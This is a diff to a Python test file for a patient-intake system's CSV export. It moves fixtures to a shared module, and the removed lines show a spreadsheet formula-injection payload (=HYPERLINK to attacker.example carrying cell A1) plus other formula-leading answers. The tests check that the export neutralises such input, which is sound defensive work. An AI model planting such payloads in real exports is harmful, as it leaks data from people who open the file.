@@ -11,31 +11,8 @@ from intake.ehr import reading
 from intake.extensions import db
 from intake.models import AuditEvent, ChartDocument, ExportBatch, Submission, SubmissionStatus
 from intake.submissions import Evidence, Signing, submit_draft
-from tests.csv_reading import expected_row, parse, unneutralise
+from tests.csv_reading import HOSTILE, TRICKY_ANSWERS, expected_row, parse, unneutralise
 from tests.factories import make_draft, make_submission, signature_payload
-
-HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
-
-# Free text a patient could type: quotes, commas, line breaks, non-Latin scripts and cells a
-# spreadsheet would run as formulas.
-TRICKY_ANSWERS = {
-    "first_name": "王",
-    "last_name": "فاطمة",
-    "email": "-wang@example.org",
-    "address": 'Flat 2, "The Old Mill"\n12 River Road\r\nSpringfield, IL',
-    "emergency_contact_name": "Ольга Иванова-Núñez",
-    "physician": "\tDr. Tab",
-    "visit_reason": HOSTILE,
-    "pain_areas": ["other", "lower_back"],
-    "pain_areas_other": "+1 big toe",
-    "better_with": "@SUM(A1:A9)",
-    "worse_with": '-stairs, "quoted", and commas',
-    "medications": "'apostrophe first",
-    "diabetes": "yes",
-    "diabetes_controlled": "no",
-    "pregnant": "no",
-    "anything_else": "\nstarts with a line break 🙂",
-}
 
 
 def _export_new(**options) -> tuple[ExportBatch, bytes]:
